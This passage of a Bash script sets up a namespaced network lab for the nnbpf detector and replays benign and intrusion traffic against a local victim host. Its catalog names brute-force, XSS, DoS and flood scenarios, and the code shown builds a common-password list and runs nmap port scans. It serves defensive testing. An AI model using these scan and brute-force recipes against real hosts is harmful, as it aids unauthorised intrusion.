#!/usr/bin/env bash
# nnbpf's live lab: real benign and intrusion traffic between network
# namespaces on this machine (docs/lab.md).
#
#   lab.sh [--name NAME] [--net N] up          create the hosts, start the victim's servers
#   lab.sh [--name NAME] down                  stop everything, remove namespaces and temp dirs
#   lab.sh [--name NAME] run [--seed S] [--scale PCT] [--shuffle] [--concurrent]
#                            [--gap S] [--out DIR] SCENARIO|benign|intrusions|all ...
#   lab.sh list                                the scenario catalog
#   lab.sh [--name NAME] labels SCENARIO ...   `CIDR LABEL CLASS` lines for those scenarios' hosts
#   lab.sh [--name NAME] status | env          what is up; shell variables for scripts
#   lab.sh [--name NAME] victim CMD ...        CMD in the victim's network namespace
#                                              (e.g. victim build/bin/nnbpf run DIR --iface IF)
#   lab.sh [--name NAME] host SCENARIO CMD ... CMD in a scenario host's namespace
#
# Topology: a switch namespace with a bridge; the victim (10.79.N.1, interface
# nlv-NAME) and one host namespace per scenario (10.79.N.K, its own labelled
# source address) hang off it with veth pairs. Every address lives inside
# these namespaces; every tool targets the victim's address only.
set -euo pipefail
SELF=$(readlink -f "$0")
LAB_DIR=$(dirname "$SELF")
STATE_ROOT=/run/nnbpf-lab
NAME=lab
NET=1
LAB_USER=nnlab
LAB_PASSWORD=nnlab-Secret7
LAB_UID=47913

die() { echo "lab.sh: error: $*" >&2; exit 2; }
fail() { echo "lab.sh: $*" >&2; exit 1; }
note() { echo "lab: $*" >&2; }
now_ns() { date +%s%N; }

# --- scenario catalog ----------------------------------------------------------
# name  host-octet  label  limit-seconds  description
CATALOG="
ssh           11 0 60  benign: SSH sessions running common commands (sshpass + ssh)
web           12 0 60  benign: browsing visits: keep-alive connections with pages, searches, a login (curl)
httperf       13 0 30  benign: a paced HTTP load, 5 requests per keep-alive connection (httperf, 8 conn/s)
iperf         14 0 30  benign: iperf3 TCP transfers (2 streams)
ftp           15 0 60  benign: FTP uploads and downloads of 64 KiB-1 MiB files (lftp, passive)
dl-http       16 0 45  benign: HTTP downloads of 1 KiB-50 MiB from nginx, one connection each (curl)
dl-https      17 0 45  benign: HTTPS downloads of 1 KiB-50 MiB from nginx (curl, TLS, HTTP/2 or 1.1)
dl-slow       18 0 40  benign: rate-limited slow downloads of 64 KiB-1 MiB at 50-250 KiB/s (wget --limit-rate)
keepalive     19 0 40  benign: 20-120 requests on one keep-alive connection, a few times (curl)
parallel      20 0 45  benign: browser-like page loads, 4-6 parallel keep-alive connections (curl -Z)
wget-r        21 0 40  benign: recursive fetches of a small site (wget -r)
small-files   22 0 40  benign: package-manager-like: many small files in a row (curl, HTTP and HTTPS)
upload-http   23 0 45  benign: HTTP PUT (nginx WebDAV) and POST (web app) uploads of 1 KiB-8 MiB (curl)
scp           24 0 45  benign: scp uploads and downloads of 16 KiB-4 MiB, compared
sftp          25 0 45  benign: sftp batch sessions: put, ls, get, rm
ftp-active    26 0 45  benign: FTP uploads and downloads in active mode (lftp, PORT)
ssh-long      27 0 45  benign: a long interactive ssh session with idle pauses of 0.2-6 s (ssh -tt)
rsync         28 0 45  benign: rsync over ssh: a directory up, changed, up again, down
iperf-rev     29 0 30  benign: iperf3 reverse (server sends), 1-2 streams
iperf-udp     30 0 30  benign: iperf3 UDP at 5-50 Mbit/s
dns           31 0 40  benign: DNS queries (A, AAAA, MX, TXT, SRV, PTR, NXDOMAIN) to dnsmasq (dig)
scan-syn      51 1 30  intrusion: nmap SYN scan of ports 1-1000
scan-connect  52 1 30  intrusion: nmap connect() scan of ports 1-1000
scan-fin      53 1 30  intrusion: nmap FIN scan of ports 1-1000
scan-xmas     54 1 30  intrusion: nmap Xmas scan of ports 1-1000
scan-null     55 1 30  intrusion: nmap NULL scan of ports 1-1000
scan-udp      56 1 30  intrusion: nmap UDP scan of ports 1-100
ssh-brute     57 1 45  intrusion: SSH password brute force (hydra, 4 tasks)
ftp-brute     58 1 50  intrusion: FTP password brute force (hydra, 4 tasks)
web-brute     59 1 30  intrusion: web login brute force (hydra http-post-form)
xss           60 1 30  intrusion: reflected XSS attempts against /search and /login (curl)
slowloris     61 1 30  intrusion: slow HTTP headers DoS (slowhttptest -H)
slowpost      62 1 30  intrusion: slow HTTP body DoS (slowhttptest -B)
http-flood    63 1 20  intrusion: HTTP GET flood (httperf, 400 conn/s)
syn-flood     64 1 20  intrusion: TCP SYN flood against :80 (hping3 -S, source = the host's address)
udp-flood     65 1 20  intrusion: UDP flood against :53 and other ports (hping3 --udp, source = the host's address)
slowread      66 1 30  intrusion: slow read DoS: tiny receive window, slow reads (slowhttptest -X) against nginx
"
scn_field() {  # name field(1..4)
  awk -v n="$1" -v f="$2" '$1==n {print $(f+1); found=1} END {exit !found}' <<< "$CATALOG"
}
scn_names() { awk 'NF {print $1}' <<< "$CATALOG"; }
scn_class() { [[ $(scn_field "$1" 2) == 0 ]] && echo "benign-$1" || echo "$1"; }

source "$(dirname "${BASH_SOURCE[0]}")/../packages.bash"  # ensure_packages (tools/packages.txt)

# --- names -------------------------------------------------------------------------
set_names() {
  [[ $NAME =~ ^[a-z0-9]{1,8}$ ]] || die "--name '$NAME': 1-8 characters a-z0-9"
  [[ $NET =~ ^[0-9]+$ ]] && ((NET >= 1 && NET <= 254)) || die "--net '$NET': expected 1..254"
  STATE=$STATE_ROOT/$NAME
  NS_PREFIX=nnlab-$NAME
  NS_V=$NS_PREFIX-victim
  NS_SW=$NS_PREFIX-switch
  IF_V=nlv-$NAME
  if [[ -f $STATE/lab.env ]]; then source "$STATE/lab.env"; fi  # the running lab's NET
  VICTIM_IP=10.79.$NET.1
}
host_ns() { echo "$NS_PREFIX-$1"; }
host_ip() { echo "10.79.$NET.$(scn_field "$1" 1)"; }

need_root() { [[ $(id -u) -eq 0 ]] || fail "needs root (network namespaces, servers, XDP)"; }
need_up() { [[ -f $STATE/lab.env ]] || fail "lab '$NAME' is not up (lab.sh --name $NAME up)"; }

# --- up / down -------------------------------------------------------------------
cmd_down() {
  set +e
  local ns pids
  if [[ -f $STATE/pids ]]; then
    while read -r p; do kill -TERM "$p" 2>/dev/null; done < "$STATE/pids"
  fi
  for ns in $(ip netns list 2>/dev/null | awk -v p="$NS_PREFIX-" 'index($1, p) == 1 {print $1}'); do
    pids=$(ip netns pids "$ns" 2>/dev/null)
    [[ -n $pids ]] && kill -TERM $pids 2>/dev/null
  done
  sleep 0.3
  for ns in $(ip netns list 2>/dev/null | awk -v p="$NS_PREFIX-" 'index($1, p) == 1 {print $1}'); do
    pids=$(ip netns pids "$ns" 2>/dev/null)
    [[ -n $pids ]] && kill -KILL $pids 2>/dev/null
    ip netns del "$ns"
  done
  # A killed `nnbpf run` on the victim's interface leaves pins behind.
  rm -rf "/sys/fs/bpf/nnbpf/$IF_V" "/run/nnbpf/$IF_V"
  rmdir /sys/fs/bpf/nnbpf /run/nnbpf 2>/dev/null
  if [[ -f $STATE/lab.env ]]; then
    local w
    w=$(sed -n 's/^WORK=//p' "$STATE/lab.env")
    [[ $w == /tmp/nnbpf-lab.* ]] && rm -rf "$w"
  fi
  rm -rf "$STATE"
  rmdir "$STATE_ROOT" 2>/dev/null
  return 0
}

write_configs() {  # WORK
  local W=$1 hash
  mkdir -p "$W/etc" "$W/log" "$W/home" "$W/ftp-empty"
  hash=$(openssl passwd -6 -salt nnbpflab "$LAB_PASSWORD")
  cp /etc/passwd /etc/shadow /etc/group "$W/etc/"
  echo "$LAB_USER:x:$LAB_UID:$LAB_UID:nnbpf lab user:$W/home:/bin/bash" >> "$W/etc/passwd"
  echo "$LAB_USER:$hash:20000:0:99999:7:::" >> "$W/etc/shadow"
  echo "$LAB_USER:x:$LAB_UID:" >> "$W/etc/group"
  chmod 0640 "$W/etc/shadow"
  chmod 0755 "$W" "$W/home"
  chown "$LAB_UID:$LAB_UID" "$W/home"
  ssh-keygen -q -t ed25519 -N '' -f "$W/ssh_host_ed25519_key"
  cat > "$W/sshd_config" <<EOF
ListenAddress $VICTIM_IP:22
HostKey $W/ssh_host_ed25519_key
PidFile $W/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin no
AllowUsers $LAB_USER
UseDNS no
StrictModes no
MaxStartups 200:30:400
MaxAuthTries 6
LoginGraceTime 20
LogLevel ERROR
Subsystem sftp internal-sftp
EOF
  cat > "$W/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=$VICTIM_IP
listen_port=21
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=YES
local_umask=022
pam_service_name=vsftpd
userlist_enable=NO
secure_chroot_dir=$W/ftp-empty
pasv_enable=YES
pasv_address=$VICTIM_IP
pasv_min_port=40000
pasv_max_port=40999
seccomp_sandbox=NO
max_clients=400
max_per_ip=400
xferlog_enable=NO
vsftpd_log_file=$W/log/vsftpd.log
EOF
  write_web "$W"
  cat > "$W/dnsmasq.conf" <<EOF
listen-address=$VICTIM_IP
bind-interfaces
port=53
no-resolv
no-hosts
no-poll
user=root
group=root
pid-file=$W/dnsmasq.pid
local=/lab.test/
domain-needed
cache-size=0
host-record=lab.test,$VICTIM_IP
host-record=www.lab.test,$VICTIM_IP
host-record=files.lab.test,$VICTIM_IP
host-record=ftp.lab.test,$VICTIM_IP
host-record=ns1.lab.test,$VICTIM_IP
host-record=mail.lab.test,10.79.$NET.2
host-record=db.lab.test,10.79.$NET.3
host-record=git.lab.test,10.79.$NET.4
host-record=api.lab.test,10.79.$NET.5,fd79::5
host-record=cdn.lab.test,10.79.$NET.6,fd79::6
cname=wiki.lab.test,www.lab.test
cname=repo.lab.test,files.lab.test
mx-host=lab.test,mail.lab.test,10
txt-record=lab.test,"v=spf1 mx -all"
txt-record=_dmarc.lab.test,"v=DMARC1; p=none"
srv-host=_ldap._tcp.lab.test,db.lab.test,389
ptr-record=1.$NET.79.10.in-addr.arpa,www.lab.test
EOF
  cat > "$W/lab.env" <<EOF
LAB_DIR=$LAB_DIR
VICTIM_IP=$VICTIM_IP
LAB_USER=$LAB_USER
LAB_PASSWORD=$LAB_PASSWORD
EOF
}

# nginx's configuration, a self-signed certificate and the files it serves:
# files/ (fixed sizes 1 KiB-50 MiB), pool/ (200 small package-like files),
# site/ (a small web site for recursive fetches), upload/ (WebDAV PUT target).
write_web() {  # WORK
  local W=$1 i k s
  mkdir -p "$W/www/files" "$W/www/pool" "$W/www/site/img" "$W/www/upload" "$W/nginx-tmp"
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 7 -subj /CN=www.lab.test \
    -keyout "$W/tls.key" -out "$W/tls.crt" 2> /dev/null
  for s in 1K 4K 16K 64K 256K 1M 4M 16M 50M; do head -c "$s" /dev/urandom > "$W/www/files/f-$s"; done
  RANDOM=4242
  for ((i = 1; i <= 200; i++)); do
    head -c $((2048 + (RANDOM * 32768 + RANDOM) % 300000)) /dev/urandom > "$W/www/pool/pkg$i.deb"
  done
  for ((i = 1; i <= 40; i++)); do head -c $((512 + RANDOM % 60000)) /dev/urandom > "$W/www/site/img/i$i.png"; done
  {
    echo "<html><head><title>lab site</title><link rel=stylesheet href=style.css></head><body><h1>lab site</h1>"
    for ((i = 1; i <= 30; i++)); do echo "<p><a href=\"p$i.html\">page $i</a></p>"; done
    echo "</body></html>"
  } > "$W/www/site/index.html"
  head -c 6000 /dev/zero | tr '\0' 'a' > "$W/www/site/style.css"
  for ((i = 1; i <= 30; i++)); do
    {
      echo "<html><head><link rel=stylesheet href=style.css></head><body><h1>page $i</h1>"
      for ((k = 0; k < 1 + RANDOM % 4; k++)); do echo "<img src=\"img/i$((1 + RANDOM % 40)).png\">"; done
      head -c $((1000 + RANDOM % 20000)) /dev/zero | tr '\0' 'x' | fold -w 80
      echo "<p><a href=\"p$((1 + RANDOM % 30)).html\">next</a> <a href=\"index.html\">home</a></p></body></html>"
    } > "$W/www/site/p$i.html"
  done
  chmod -R a+rX "$W/www"
  cat > "$W/nginx.conf" <<EOF
user root;
worker_processes 2;
daemon off;
pid $W/nginx.pid;
error_log $W/log/nginx.err error;
events { worker_connections 2048; }
http {
  include /etc/nginx/mime.types;
  default_type application/octet-stream;
  access_log off;
  sendfile on;
  keepalive_timeout 30s;
  keepalive_requests 1000;
  client_max_body_size 64m;
  client_body_temp_path $W/nginx-tmp/body;
  proxy_temp_path $W/nginx-tmp/proxy;
  fastcgi_temp_path $W/nginx-tmp/fastcgi;
  uwsgi_temp_path $W/nginx-tmp/uwsgi;
  scgi_temp_path $W/nginx-tmp/scgi;
  server {
    listen $VICTIM_IP:8080;
    listen $VICTIM_IP:443 ssl http2;
    server_name www.lab.test;
    ssl_certificate $W/tls.crt;
    ssl_certificate_key $W/tls.key;
    root $W/www;
    autoindex on;
    location /upload/ {
      dav_methods PUT DELETE;
      create_full_put_path on;
    }
  }
}
EOF
}

cmd_up() {
  need_root
  if [[ -e $STATE ]] || ip netns list | grep -q "^$NS_V\b"; then
    fail "lab '$NAME' is already up (lab.sh --name $NAME down first)"
  fi
  ensure_packages lab || fail "cannot install the lab's packages (tools/packages.txt: lab)"
  mkdir -p "$STATE"
  local W
  W=$(mktemp -d /tmp/nnbpf-lab.XXXXXX)
  printf 'NET=%s\nWORK=%s\n' "$NET" "$W" > "$STATE/lab.env"
  : > "$STATE/pids"
  trap 'echo "lab.sh: up failed; tearing down" >&2; [[ -n ${LAB_KEEP:-} ]] || cmd_down' EXIT
  ip netns add "$NS_SW"
  ip -n "$NS_SW" link add br0 type bridge
  ip -n "$NS_SW" link set br0 up
  ip netns add "$NS_V"
  ip link add "$IF_V" netns "$NS_V" type veth peer name pv netns "$NS_SW"
  ip -n "$NS_SW" link set pv master br0 up
  ip -n "$NS_V" addr add "$VICTIM_IP/24" dev "$IF_V"
  ip -n "$NS_V" link set "$IF_V" up
  ip -n "$NS_V" link set lo up
  local s ns k
  for s in $(scn_names); do
    ns=$(host_ns "$s")
    k=$(scn_field "$s" 1)
    ip netns add "$ns"
    ip link add eth0 netns "$ns" type veth peer name "p$k" netns "$NS_SW"
    ip -n "$NS_SW" link set "p$k" master br0 up
    ip -n "$ns" addr add "$(host_ip "$s")/24" dev eth0
    ip -n "$ns" link set eth0 up
    ip -n "$ns" link set lo up
  done
  write_configs "$W"
  setsid ip netns exec "$NS_V" unshare --mount bash "$LAB_DIR/victim.sh" "$W" > "$W/log/victim.log" 2>&1 < /dev/null &
  echo $! >> "$STATE/pids"
  local port ok
  for port in 22 21 80 5201 5202 5203 8080 443 53; do
    ok=0
    for _ in $(seq 1 100); do
      if ip netns exec "$NS_V" ss -Hltn "sport = :$port" | grep -q .; then ok=1; break; fi
      sleep 0.1
    done
    ((ok)) || { echo "lab.sh: victim port $port not listening:" >&2; tail -n 5 "$W"/log/* >&2; false; }
  done
  ok=0
  for _ in $(seq 1 100); do
    if ip netns exec "$NS_V" ss -Hlun "sport = :53" | grep -q .; then ok=1; break; fi
    sleep 0.1
  done
  ((ok)) || { echo "lab.sh: victim DNS (udp 53) not listening:" >&2; tail -n 5 "$W"/log/* >&2; false; }
  trap - EXIT
  note "up: victim $VICTIM_IP on $IF_V (namespace $NS_V), $(scn_names | wc -l) hosts 10.79.$NET.0/24; ssh/ftp/http/https/dns/iperf3 listening"
}

# --- scenarios (run inside the host's namespace by `lab.sh _scenario`) ----------------
wordlist() {  # count -> file of candidate passwords, none of them the lab user's
  local n=$1 f=$SCRATCH/words.txt base=(123456 password 12345678 qwerty 123456789 12345 1234 111111
    1234567 dragon 123123 baseball abc123 football monkey letmein 696969 shadow master 666666
    qwertyuiop 123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 000000
    qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter buster soccer harley
    batman andrew tigger sunshine iloveyou 2000 charlie robert thomas hockey ranger daniel)
  local i
  : > "$f"
  for ((i = 0; i < n; i++)); do
    if ((i < ${#base[@]})); then echo "${base[i]}"; else echo "guess$RANDOM$i"; fi
  done | shuf --random-source=<(yes "$SEED") >> "$f"
  echo "$f"
}
scaled() { local v=$(($1 * SCALE / 100)); ((v < ${2:-1})) && v=${2:-1}; echo "$v"; }
pause() { sleep "$(awk -v a="$1" -v b="$2" -v r="$RANDOM" 'BEGIN {printf "%.3f", a + (b - a) * r / 32767}')"; }

scn_ssh() {
  local n i cmds=("uname -a; uptime" "ls -la; df -h" "ps aux | head -n 20" "cat /etc/os-release; id"
    "free -m; ls /usr/bin | wc -l" "echo hello > note.txt; cat note.txt; rm note.txt" "du -sh /usr/share/doc 2>/dev/null | tail -n 1")
  n=$(scaled $((12 + RANDOM % 7)))
  for ((i = 0; i < n; i++)); do
    sshpass -p "$LAB_PASSWORD" ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o LogLevel=ERROR -o ConnectTimeout=5 -o PubkeyAuthentication=no "$LAB_USER@$VICTIM_IP" \
      "${cmds[RANDOM % ${#cmds[@]}]}; ${cmds[RANDOM % ${#cmds[@]}]}" > /dev/null
    pause 0.2 1.2
  done
  echo "$n sessions"
}
scn_web() {
  # Visits like a browser's: one keep-alive connection per visit carrying the
  # index and a few pages, sometimes a search or a correct login, then a pause.
  local n i k args base=http://$VICTIM_IP
  local words=(kernel ebpf firewall "network monitoring" xdp "flow table" linux)
  n=$(scaled $((60 + RANDOM % 20)))
  for ((i = 0; i < n; i++)); do
    args=("$base/")
    for ((k = 0; k < 1 + RANDOM % 5; k++)); do args+=("$base/page/$((1 + RANDOM % 16))"); done
    case $((RANDOM % 6)) in
      0) args+=(--next -G --data-urlencode "q=${words[RANDOM % ${#words[@]}]}" "$base/search") ;;
      1) args+=("$base/login" --next -d "user=$LAB_USER&pass=$LAB_PASSWORD" "$base/login") ;;
    esac
    curl -s --max-time 10 "${args[@]}" > /dev/null
    pause 0.05 0.5
  done
  echo "$n visits"
}
scn_httperf() {
  local n
  n=$(scaled 80 3)
  httperf --server "$VICTIM_IP" --port 80 --uri "/page/$((1 + RANDOM % 16))" --num-conns "$n" --num-calls 5 \
    --rate 8 --timeout 5 \
    2>&1 | awk '/^Total:/ {print $2, $3, $4, $5}'
}
scn_iperf() {
  local t=$((2 + RANDOM % 3))
  iperf3 -c "$VICTIM_IP" -p 5201 -t "$t" -P 2 > /dev/null
  echo "2 streams for ${t}s"
}
scn_ftp() {
  local n i kb
  n=$(scaled $((6 + RANDOM % 5)))
  for ((i = 0; i < n; i++)); do
    kb=$((64 + RANDOM % 960))
    head -c "${kb}K" /dev/urandom > "$SCRATCH/up$i.bin"
    lftp -u "$LAB_USER,$LAB_PASSWORD" -e "set net:max-retries 1; set net:timeout 5; set ftp:passive-mode yes; \
      put $SCRATCH/up$i.bin -o up$i.bin; get up$i.bin -o $SCRATCH/down$i.bin; ls > /dev/null; rm up$i.bin; bye" \
      "ftp://$VICTIM_IP" > /dev/null
    cmp -s "$SCRATCH/up$i.bin" "$SCRATCH/down$i.bin" || { echo "transfer $i corrupted" >&2; return 1; }
    pause 0.2 0.8
  done
  echo "$n uploads + downloads"
}
# --- the broad benign library: every choice (sizes, counts, pauses, order,
# concurrency) drawn from the scenario's seed ---------------------------------
SSH_OPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
  -o ConnectTimeout=5 -o PubkeyAuthentication=no)
logrand() {  # lo hi -> an integer log-uniformly distributed in [lo, hi]
  awk -v lo="$1" -v hi="$2" -v r=$(((RANDOM << 15) | RANDOM)) 'BEGIN {printf "%d", exp(log(lo) + (log(hi) - log(lo)) * r / 1073741823)}'
}
FILES=(1K 4K 16K 64K 256K 1M 4M 16M 50M)
dl_run() {  # base-url curl-args...: downloads of 1 KiB-50 MiB, whole files or byte ranges
  local base=$1 n i sz ok=0
  shift
  n=$(scaled $((8 + RANDOM % 6)))
  for ((i = 0; i < n; i++)); do
    if ((RANDOM % 2)); then
      curl -s -o /dev/null --max-time 20 "$@" "$base/files/f-${FILES[RANDOM % ${#FILES[@]}]}" && ok=$((ok + 1))
    else
      sz=$(logrand 1024 52428800)
      curl -s -o /dev/null --max-time 20 "$@" -r "0-$((sz - 1))" "$base/files/f-50M" && ok=$((ok + 1))
    fi
    pause 0.1 1.5
  done
  echo "$ok/$n downloads"
}
scn_dl-http() { dl_run "http://$VICTIM_IP:8080"; }
scn_dl-https() {
  if ((RANDOM % 2)); then dl_run "https://$VICTIM_IP" -k; else dl_run "https://$VICTIM_IP" -k --http1.1; fi
}
scn_dl-slow() {
  local n i rate ok=0
  n=$(scaled $((2 + RANDOM % 2)) 1)
  for ((i = 0; i < n; i++)); do
    # wget: curl 7.88's --limit-rate does not hold the rate down here.
    rate=$((50 + RANDOM % 200))
    timeout 10 wget -q -O /dev/null -T 5 -t 1 --limit-rate="${rate}k" "http://$VICTIM_IP:8080/files/f-${FILES[3 + RANDOM % 2 + RANDOM % 2]}" && ok=$((ok + 1))
    pause 0.2 1
  done
  echo "$n slow downloads ($ok complete)"
}
scn_keepalive() {
  local n i k m urls
  n=$(scaled $((3 + RANDOM % 3)) 2)
  for ((i = 0; i < n; i++)); do
    m=$((20 + RANDOM % 100))
    urls=()
    for ((k = 0; k < m; k++)); do
      case $((RANDOM % 3)) in
        0) urls+=("http://$VICTIM_IP:8080/pool/pkg$((1 + RANDOM % 200)).deb") ;;
        1) urls+=("http://$VICTIM_IP:8080/site/p$((1 + RANDOM % 30)).html") ;;
        2) urls+=("http://$VICTIM_IP:8080/site/img/i$((1 + RANDOM % 40)).png") ;;
      esac
    done
    curl -s --max-time 20 "${urls[@]}" -o /dev/null > /dev/null
    pause 0.3 2
  done
  echo "$n connections"
}
scn_parallel() {
  local n i k m args base
  n=$(scaled $((8 + RANDOM % 6)) 2)
  for ((i = 0; i < n; i++)); do
    ((RANDOM % 2)) && base=http://$VICTIM_IP:8080/site || base=https://$VICTIM_IP/site
    m=$((6 + RANDOM % 20))
    args=("$base/p$((1 + RANDOM % 30)).html" "$base/style.css")
    for ((k = 0; k < m; k++)); do args+=("$base/img/i$((1 + RANDOM % 40)).png"); done
    curl -s -k --no-progress-meter --max-time 15 -Z --parallel-max $((4 + RANDOM % 3)) "${args[@]}" -o /dev/null > /dev/null
    pause 0.5 2.5
  done
  echo "$n page loads"
}
scn_wget-r() {
  local n i
  n=$(scaled $((2 + RANDOM % 3)) 2)
  for ((i = 0; i < n; i++)); do
    rm -rf "$SCRATCH/w"
    wget -q -r -l $((1 + RANDOM % 2)) -np -T 5 -t 1 -P "$SCRATCH/w" "http://$VICTIM_IP:8080/site/index.html"
    pause 0.5 2
  done
  echo "$n recursive fetches, last $(find "$SCRATCH/w" -type f 2> /dev/null | wc -l) files"
}
scn_small-files() {
  local n i proto
  n=$(scaled $((40 + RANDOM % 30)) 5)
  ((RANDOM % 3)) && proto=http://$VICTIM_IP:8080 || proto=https://$VICTIM_IP
  for ((i = 0; i < n; i++)); do
    curl -s -k -o /dev/null --max-time 10 "$proto/pool/pkg$((1 + RANDOM % 200)).deb"
    pause 0.02 0.4
  done
  echo "$n files from $proto"
}
scn_upload-http() {
  local n i sz ok=0
  n=$(scaled $((8 + RANDOM % 6)) 2)
  for ((i = 0; i < n; i++)); do
    sz=$(logrand 1024 8388608)
    head -c "$sz" /dev/urandom > "$SCRATCH/up.bin"
    case $((RANDOM % 3)) in
      0) curl -s -o /dev/null --max-time 20 -T "$SCRATCH/up.bin" "http://$VICTIM_IP:8080/upload/u$i-$RANDOM.bin" && ok=$((ok + 1)) ;;
      1) curl -s -k -o /dev/null --max-time 20 -T "$SCRATCH/up.bin" "https://$VICTIM_IP/upload/u$i-$RANDOM.bin" && ok=$((ok + 1)) ;;
      2) curl -s -o /dev/null --max-time 20 -H "Content-Type: application/octet-stream" --data-binary "@$SCRATCH/up.bin" \
           "http://$VICTIM_IP/upload" && ok=$((ok + 1)) ;;
    esac
    pause 0.2 1.5
  done
  echo "$ok/$n uploads"
}
scn_scp() {
  local n i kb ok=0
  n=$(scaled $((3 + RANDOM % 3)) 2)
  for ((i = 0; i < n; i++)); do
    kb=$(logrand 16 4096)
    head -c "${kb}K" /dev/urandom > "$SCRATCH/s$i.bin"
    sshpass -p "$LAB_PASSWORD" scp -q "${SSH_OPTS[@]}" "$SCRATCH/s$i.bin" "$LAB_USER@$VICTIM_IP:s$i.bin" &&
      sshpass -p "$LAB_PASSWORD" scp -q "${SSH_OPTS[@]}" "$LAB_USER@$VICTIM_IP:s$i.bin" "$SCRATCH/d$i.bin" &&
      cmp -s "$SCRATCH/s$i.bin" "$SCRATCH/d$i.bin" && ok=$((ok + 1))
    pause 0.2 1.5
  done
  echo "$ok/$n round trips"
}
scn_sftp() {
  local n i kb ok=0
  n=$(scaled $((3 + RANDOM % 3)) 2)
  for ((i = 0; i < n; i++)); do
    kb=$(logrand 8 4096)
    head -c "${kb}K" /dev/urandom > "$SCRATCH/f$i.bin"
    printf 'put %s f%s.bin
ls -l
get f%s.bin %s
rm f%s.bin
' "$SCRATCH/f$i.bin" "$i" "$i" "$SCRATCH/g$i.bin" "$i" > "$SCRATCH/batch"
    # Commands on stdin, not -b: batch mode turns password authentication off.
    sshpass -p "$LAB_PASSWORD" sftp -q "${SSH_OPTS[@]}" "$LAB_USER@$VICTIM_IP" < "$SCRATCH/batch" > /dev/null &&
      cmp -s "$SCRATCH/f$i.bin" "$SCRATCH/g$i.bin" && ok=$((ok + 1))
    pause 0.2 1.5
  done
  echo "$ok/$n sessions"
}
scn_ftp-active() {
  local n i kb ok=0
  n=$(scaled $((4 + RANDOM % 4)) 2)
  for ((i = 0; i < n; i++)); do
    kb=$(logrand 4 2048)
    head -c "${kb}K" /dev/urandom > "$SCRATCH/a$i.bin"
    lftp -u "$LAB_USER,$LAB_PASSWORD" -e "set net:max-retries 1; set net:timeout 5; set ftp:passive-mode no; \
      put $SCRATCH/a$i.bin -o a$i.bin; get a$i.bin -o $SCRATCH/b$i.bin; ls > /dev/null; rm a$i.bin; bye" \
      "ftp://$VICTIM_IP" > /dev/null && cmp -s "$SCRATCH/a$i.bin" "$SCRATCH/b$i.bin" && ok=$((ok + 1))
    pause 0.2 1
  done
  echo "$ok/$n active-mode transfers"
}
scn_ssh-long() {
  # One interactive session (a terminal: ssh -tt) typing commands with idle
  # pauses between them; at scale 100 about 25 s.
  local m k cmds=("ls -la" "uptime" "ps aux | head -n 15" "df -h" "cat /etc/os-release" "free -m"
    "ls /usr/bin | head -n 40" "echo \$HOME" "id" "date" "cat /proc/cpuinfo | head -n 20" "env | sort | head")
  m=$(scaled $((8 + RANDOM % 6)) 3)
  {
    for ((k = 0; k < m; k++)); do
      echo "${cmds[RANDOM % ${#cmds[@]}]}"
      ((RANDOM % 4)) && pause 0.2 2 || pause 2 6
    done
    echo exit
  } | sshpass -p "$LAB_PASSWORD" ssh -tt "${SSH_OPTS[@]}" "$LAB_USER@$VICTIM_IP" > /dev/null 2>&1
  echo "$m commands"
}
scn_rsync() {
  local n i k rsh
  rsh="sshpass -p $LAB_PASSWORD ssh ${SSH_OPTS[*]}"
  n=$(scaled $((2 + RANDOM % 2)) 2)
  for ((i = 0; i < n; i++)); do
    rm -rf "$SCRATCH/r" "$SCRATCH/back"
    mkdir -p "$SCRATCH/r"
    for ((k = 0; k < 5 + RANDOM % 20; k++)); do head -c "$(logrand 512 1048576)" /dev/urandom > "$SCRATCH/r/f$k"; done
    rsync -a -e "$rsh" "$SCRATCH/r/" "$LAB_USER@$VICTIM_IP:rs$i/"
    for ((k = 0; k < 3; k++)); do head -c "$(logrand 512 262144)" /dev/urandom > "$SCRATCH/r/f$((RANDOM % 5))"; done
    rsync -a -e "$rsh" "$SCRATCH/r/" "$LAB_USER@$VICTIM_IP:rs$i/"
    rsync -a -e "$rsh" "$LAB_USER@$VICTIM_IP:rs$i/" "$SCRATCH/back/"
    diff -rq "$SCRATCH/r" "$SCRATCH/back" > /dev/null || echo "rsync $i: trees differ" >&2
    pause 0.3 1.5
  done
  echo "$n syncs"
}
iperf_run() {  # iperf3 args...: on one of the three servers; a busy one is retried on the next
  local t p k
  t=$((2 + RANDOM % 3))
  p=$((5201 + RANDOM % 3))
  for ((k = 0; k < 3; k++)); do
    iperf3 -c "$VICTIM_IP" -p "$p" -t "$t" --connect-timeout 3000 "$@" > /dev/null 2>&1 && { echo "${t}s on :$p $*"; return 0; }
    p=$((5201 + (p - 5201 + 1) % 3))
    sleep 0.5
  done
  echo "iperf3 failed"
  return 1
}
scn_iperf-rev() { iperf_run -R -P $((1 + RANDOM % 2)); }
scn_iperf-udp() { iperf_run -u -b "$((5 + RANDOM % 46))M" -l "$((400 + RANDOM % 1000))"; }
scn_dns() {
  local n i q names=(www files ftp ns1 mail db git api cdn wiki repo) ok=0
  n=$(scaled $((50 + RANDOM % 30)) 5)
  for ((i = 0; i < n; i++)); do
    case $((RANDOM % 10)) in
      0) q=(lab.test MX) ;;
      1) q=(lab.test TXT) ;;
      2) q=(_ldap._tcp.lab.test SRV) ;;
      3) q=(-x "$VICTIM_IP") ;;
      4) q=("nohost$RANDOM.lab.test" A) ;;
      5) q=("${names[RANDOM % ${#names[@]}]}.lab.test" AAAA) ;;
      *) q=("${names[RANDOM % ${#names[@]}]}.lab.test" A) ;;
    esac
    dig +tries=1 +time=2 "@$VICTIM_IP" "${q[@]}" > /dev/null && ok=$((ok + 1))
    pause 0.05 0.6
  done
  echo "$ok/$n queries"
}

nmap_scan() {  # flags...
  nmap -n -Pn "$@" --max-retries 1 -T4 --host-timeout 20s "$VICTIM_IP" 2>&1 | awk '/^Nmap done|open/ {printf "%s; ", $0} END {print ""}'
}
scn_scan-syn() { nmap_scan -sS -p 1-1000; }
scn_scan-connect() { nmap_scan -sT -p 1-1000; }
scn_scan-fin() { nmap_scan -sF -p 1-1000; }
